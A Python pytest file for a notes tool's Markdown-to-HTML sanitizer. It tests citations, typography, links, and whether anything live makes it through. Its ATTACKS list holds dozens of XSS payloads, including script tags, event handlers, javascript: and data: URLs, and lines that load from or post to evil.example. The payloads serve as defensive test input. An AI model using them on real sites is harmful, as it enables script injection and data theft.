"""The bodies of notes: from Markdown to HTML that nothing live gets through."""

import re
from html import escape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from enregard.core.notes import prose

KNOWN = ("v3-report", "semianalysis", "doi:10.1/a")


def cite(id, place, lang):
    """A citation as the tests set it: the id, the place and the language."""
    return f"<i>{id}|{escape(place)}|{lang}</i>" if id in KNOWN else None


def html(text, lang="en", resolve=None):
    """The HTML of a body."""
    return prose.html(text, lang, cite, resolve).html


@pytest.mark.parametrize(
    ("text", "made"),
    [
        ("A *b* **c** `d`", "<p>A <em>b</em> <strong>c</strong> <code>d</code></p>"),
        ("~~a~~ b", "<p><del>a</del> b</p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("a\n- b\n- c", "<p>a</p>\n<ul>\n<li>b</li>\n<li>c</li>\n</ul>"),
        ("a\n1. b", "<p>a</p>\n<ol>\n<li>b</li>\n</ol>"),
        ("in\n1918. b", "<p>in\n1918. b</p>"),
        ("- a\nb\n- c", "<ul>\n<li>a\nb</li>\n<li>c</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
        ("## a", "<h4>a</h4>"),
        ("###### a", "<h6>a</h6>"),
        ("#tag", "<p>#tag</p>"),
        ("```\n<b>\n```", "<pre><code>&lt;b&gt;\n</code></pre>"),
        ("H<sub>2</sub>O, <kbd>x</kbd><br>y", "<p>H<sub>2</sub>O, <kbd>x</kbd><br>y</p>"),
        (
            "see https://a.org/b_c_d, (http://e.org/).",
            '<p>see <a href="https://a.org/b_c_d">https://a.org/b_c_d</a>, (<a href="http://e.org/">http://e.org/</a>).</p>',
        ),
        ("[a](https://b.org 'c')", '<p><a href="https://b.org" title="c">a</a></p>'),
        ("[a](../other/fr.md#x)", '<p><a href="../other/fr.md#x">a</a></p>'),
        ("<https://a.org>", '<p><a href="https://a.org">https://a.org</a></p>'),
        ("![a](images/x.png)", '<p><img alt="a" src="images/x.png"></p>'),
        ("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>"),
        ("a <!-- b\n\nc --> d", "<p>a  d</p>"),
        ("a <!-- b", "<p>a &lt;!-- b</p>"),
        ("`<!-- a -->`", "<p><code>&lt;!-- a --&gt;</code></p>"),
        ("", ""),
    ],
)
def test_a_body_is_markdown(text, made):
    """A body is markdown."""
    assert (
        re.sub(r" (src|alt)=", r" \1=", html(text, resolve=None)).replace(
            'src="images/x.png" alt="a"', 'alt="a" src="images/x.png"'
        )
        == made
    )


@pytest.mark.parametrize(
    ("lang", "text", "made"),
    [
        ("fr", "C'est « dit » : 5 % !", "C’est «\u202fdit\u202f»\u00a0: 5\u00a0%\u202f!"),
        ("en", 'It\'s "*said*" so', "It’s “<em>said</em>” so"),
        ("en", '`it\'s "x"`', '<code>it\'s "x"</code>'),
        ("de", 'it\'s "x"', 'it\'s "x"'),
    ],
)
def test_words_are_set_as_their_language_sets_them_and_code_is_not(lang, text, made):
    """Words are set as their language sets them and code is not."""
    assert html(text, lang) == f"<p>{made}</p>"


def test_what_is_nested_beyond_reason_is_shown_as_it_was_written():
    """Lists three hundred deep are nobody's text; they break nothing, and neither does what comes after."""
    deep = "\n".join("    " * n + "- a" for n in range(300))
    assert html(deep).startswith("<p>- a\n    - a")
    assert html("- a") == "<ul>\n<li>a</li>\n</ul>"


# Citations


def test_citations_are_set_by_the_caller_with_their_place_and_language():
    """Citations are set by the caller with their place and language."""
    made = prose.html("A [@v3-report, p. 5; @semianalysis] b [@v3-report].", "fr", cite)
    first = "<i>v3-report|p. 5|fr</i>; <i>semianalysis||fr</i>"
    assert (
        made.html == f'<p>A <span class="cite">[{first}]</span> b <span class="cite">[<i>v3-report||fr</i>]</span>.</p>'
    )
    assert made.citations == ("v3-report", "semianalysis")
    assert made.problems == ()


@pytest.mark.parametrize(
    ("text", "id", "place"),
    [
        ("[@v3-report]", "v3-report", ""),
        ("[@v3-report p. 5]", "v3-report", "p. 5"),
        ("[@v3-report, tableaux 1\net 2]", "v3-report", "tableaux 1 et 2"),
        ("[ @v3-report ]", None, None),
        ("[@doi:10.1/a, p. 1]", "doi:10.1/a", "p. 1"),
        ("[@v3-report, a <b> & c]", "v3-report", "a <b> & c"),
        ("*[@v3-report]*", "v3-report", ""),
        ("- [@v3-report]", "v3-report", ""),
        ("| a |\n|---|\n| [@v3-report] |", "v3-report", ""),
        ("`[@v3-report]`", None, None),
        ("```\n[@v3-report]\n```", None, None),
        ("    [@v3-report]", None, None),
        (r"\[@v3-report]", None, None),
        ("[@v3-report](https://a.org)", None, None),
        ("me@v3-report.org", None, None),
        ("[a]: b\n\n[@v3-report][a]", None, None),
    ],
)
def test_a_citation_is_one_wherever_text_is_and_never_in_code(text, id, place):
    """A citation is one wherever text is and never in code."""
    found = []
    prose.html(text, "xx", lambda *asked: found.append(asked) or "x")
    assert found == ([(id, place, "xx")] if id else [])


def test_a_reference_that_nobody_knows_is_told_with_its_line():
    """A reference that nobody knows is told with its line."""
    made = prose.html("`[@lost]`\n\n```\n[@lost]\n```\n\nA [@v3-report; @lost,\np. 5] b\n\n[@lost, <i>]", "en", cite)
    assert made.problems == (
        (6, "there is no reference “lost” in references.yml"),
        (9, "there is no reference “lost” in references.yml"),
    )
    assert made.citations == ("v3-report",)
    assert "[<i>v3-report||en</i>; @lost, p. 5]" in made.html
    assert "[@lost, &lt;i&gt;]" in made.html


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("a [@, p. 5]", "[@, p. 5] is not read as a citation: write [@id, p. 5; @other]"),
        ("a [@a; p. 5]", "[@a; p. 5] is not read as a citation: write [@id, p. 5; @other]"),
        ("a [see @v3-report, p. 5]", "a citation begins with its @: write see [@v3-report, p. 5]"),
    ],
)
def test_what_was_meant_as_a_citation_is_told(text, told):
    """What was meant as a citation is told."""
    assert prose.html(text, "en", cite).problems == ((0, told),)


def test_a_bodys_own_private_characters_cite_nothing():
    """A bodys own private characters cite nothing."""
    assert html("\ue0f00\ue0f1 [@v3-report]") == '<p>0 <span class="cite">[<i>v3-report||en</i>]</span></p>'


# Addresses


def test_addresses_are_resolved_for_the_page_and_citations_are_not():
    """Addresses are resolved for the page and citations are not."""
    text = '[a](x.md?a=1&b=2 "t") ![b](c.png) [d](#e) [@v3-report]'
    made = prose.html(text, "en", lambda *_: '<a href="#ref">r</a>', lambda href: f'../{href}"').html
    assert made == (
        '<p><a href="../x.md?a=1&amp;b=2&quot;" title="t">a</a> <img src="../c.png&quot;" alt="b"> '
        '<a href="../#e&quot;">d</a> <span class="cite">[<a href="#ref">r</a>]</span></p>'
    )


def test_an_address_that_may_not_be_followed_leaves_its_words():
    """An address that may not be followed leaves its words."""
    assert html("[a](x.md) ![b & c](d.png)", resolve=lambda _: None) == "<p><a>a</a> b &amp; c</p>"


# What is live


ATTACKS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://evil.example' onclick=alert(1)>x</a>",
    "<sub onmouseover=alert(1)>x</sub>",
    "<sub style='position:fixed'>x</sub>",
    "<kbd/onclick=alert(1)>x",
    "<abbr title=x onclick=alert(1)>x</abbr>",
    "<br onload=alert(1)/>",
    "<form action=//evil.example><input name=a></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<object data=x></object><embed src=x>",
    "<details ontoggle=alert(1) open>x</details>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<<script>alert(1)//<</script>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img src=x onerror\n=alert(1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76ascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\t/evil.example)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x](x.png "a\\" onerror=\\"alert(1)")',
    '![x" onerror="alert(1)](x.png)',
    '[x](https://a.org/"onclick="alert(1))',
    '[x](https://a.org "a\\" onclick=\\"alert(1)")',
    "[x](<https://a.org/' onclick='alert(1)>)",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "\x02wzxhzdk:0\x03<img src=x onerror=alert(1)>",
    "wzxhzdk:0 <sub> <img src=x onerror=alert(1)>",
    "[@v3-report, <img src=x onerror=alert(1)>]",
    "[x](a[@v3-report]b)",
    "![a [@v3-report, p. 5] b](x.png)",
    '[x](a.md "b [@v3-report] c")',
    "[x][1]\n\n[1]: a[@v3-report]",
    "<https://a.org/[@v3-report]>",
    "https://a.org/[@v3-report]",
    "[@lost<img src=x onerror=alert(1)>]",
    "*<img src=x onerror=alert(1)>*",
    '<sub><style><!--</sub><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
]

TAGS = prose.TAGS | {"span", "i"}


class Live(HTMLParser):
    """Gathers what in a piece of HTML could act, lead elsewhere than allowed, or ask a third party."""

    def __init__(self, made):
        """Judge a piece of HTML."""
        super().__init__()
        self.found = []
        self.feed(made)
        self.close()

    def handle_starttag(self, tag, attrs):
        """Judge a tag."""
        allowed = {"a": {"href", "title"}, "img": {"src", "alt", "title"}, "ol": {"start"}, "span": {"class"}}
        if tag not in TAGS:
            self.found.append(tag)
        for name, value in attrs:
            if name == "style" and tag in {"td", "th"} and re.fullmatch(r"text-align: \w+;", value or ""):
                continue
            if name not in allowed.get(tag, ()):
                self.found.append((tag, name))
            if name in {"href", "src"} and not re.match(
                r"https?:|mailto:|(?!\s*[/\\]\s*[/\\])(?![^/?#]*:)", value or ""
            ):
                self.found.append((tag, name, value))
            if name == "src" and re.match(r"\s*([\w+.-]+:|[/\\]{2})", value or ""):
                self.found.append((tag, name, value))

    def handle_comment(self, data):
        """A comment shows nothing, and may hide what comes."""
        self.found.append(("comment", data))

    def handle_decl(self, decl):
        """No declaration belongs in a body."""
        self.found.append(("declaration", decl))

    handle_pi = handle_decl
    unknown_decl = handle_decl


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "a {} b", "- {}", "**{}**", "<sub>{}"])
def test_nothing_live_gets_through(attack, around):
    """Nothing live gets through."""
    made = html(around.format(attack), resolve=str)
    assert Live(made).found == []


def test_the_judge_of_attacks_knows_one_when_it_sees_it():
    """Without this, the test above could pass by seeing nothing."""
    for live in (
        "<script>x</script>",
        "<b onclick=x>",
        '<a href="javascript:x">',
        '<a href="//x">',
        '<img src="https://x/y">',
        "<!-- x -->",
        '<td style="color: red">',
    ):
        assert Live(live).found, live


FRAGMENTS = st.sampled_from(
    [
        *"<>\"'`*_[]()!#&;=/\\-\n \t",
        *(
            "a",
            "x:",
            "//",
            "javascript:",
            "http://a.org",
            "<img ",
            "onerror=",
            "src=",
            "<!--",
            "-->",
            "<sub>",
            "</sub>",
        ),
        *("<svg>", "[@v3-report", "```\n", "|", "---", "&#106;", "\x02", "wzxhzdk:0"),
    ]
)


@given(st.lists(FRAGMENTS, max_size=25).map("".join))
def test_nothing_live_gets_through_whatever_is_written(text):
    """Nothing live gets through whatever is written."""
    assert Live(html(text, resolve=str)).found == []
    prose.removed(text)
    prose.unsafe(text)


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("a\n\n<b>c</b>", ((2, "<b>"), (2, "<b>"))),
        ("<sub>a</sub><br/><BR>", ()),
        ('<sub class="x">a</sub>', ((0, "<sub>"),)),
        ("`<b>`\n\n```\n<i>\n```\n\n    <u>\n\n<!-- <p> -->", ()),
        ("a < b > c <https://a.org> <me@a.org>", ()),
        ("\\<b>", ()),
    ],
)
def test_what_is_left_out_is_told(text, told):
    """What is left out is told."""
    assert prose.removed(text) == told


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("a\n[b](javascript:x)", ((1, "javascript:x"),)),
        ("![b](//a.org/x.png)", ((0, "//a.org/x.png"),)),
        ("[b][c]\n\n[c]: data:x", ((2, "data:x"),)),
        ("[b](http://a.org) [c](mailto:d@e.org) [f](g.md#h) [i](j%3A.md)", ()),
        ("`[b](javascript:x)`", ()),
    ],
)
def test_addresses_that_no_link_may_lead_to_are_told(text, told):
    """Addresses that no link may lead to are told."""
    assert prose.unsafe(text) == told


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("a\n![b](https://c.org/d.png)", ((1, "https://c.org/d.png"),)),
        ("![b](images/d.png) [b](https://c.org) `![b](https://c.org/d.png)`", ()),
    ],
)
def test_pictures_of_other_sites_are_told(text, told):
    """Pictures of other sites are told."""
    assert prose.pictures(text) == told
    assert "<img" not in html("![b](https://c.org/d.png)")


def test_a_colon_may_follow_a_citation():
    """As it does in English: “IBM says [@x]: not R1’s.”"""
    made = prose.html("IBM says [@x]: no.", "en", lambda name, place, lang: f"<a>{name}</a>")

    assert "[@x]" not in made.html
    assert made.citations == ("x",)
